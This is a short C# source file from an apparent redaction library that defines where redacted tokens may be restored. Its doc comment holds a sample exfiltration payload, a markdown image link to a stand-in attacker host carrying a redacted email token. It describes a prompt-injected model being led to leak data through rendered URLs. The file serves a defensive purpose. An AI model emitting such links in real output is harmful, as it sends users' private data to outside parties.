namespace ServerlessGuard.Core.Redaction;

/// <summary>Where tokens may be turned back.</summary>
public enum RestorePlaces
{
    /// <summary>
    /// Never inside URLs, link targets or HTML tags: a model that was talked into writing
    /// <c>![x](https://evil.example/?d=[EMAIL_7K3QX2])</c> must not make the client's renderer send the value.
    /// </summary>
    Prose,

    /// <summary>Everywhere: the exact inverse of redaction, for files and places that render nothing.</summary>
    Everywhere,
}
